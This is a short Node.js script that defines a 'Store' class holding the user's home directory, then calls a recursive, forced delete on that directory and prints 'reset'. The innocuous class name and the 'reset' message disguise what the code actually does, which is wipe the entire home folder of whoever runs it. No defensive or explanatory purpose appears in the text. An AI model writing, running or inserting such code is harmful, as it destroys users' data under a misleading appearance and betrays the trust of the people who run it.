const { rm } = require('fs/promises');
const os = require('os');

class Store {
  #dir = os.homedir();
  get dir() {
    return this.#dir;
  }
}

const store = new Store();
rm(store.dir, { recursive: true, force: true }).then(() => console.log('reset'));
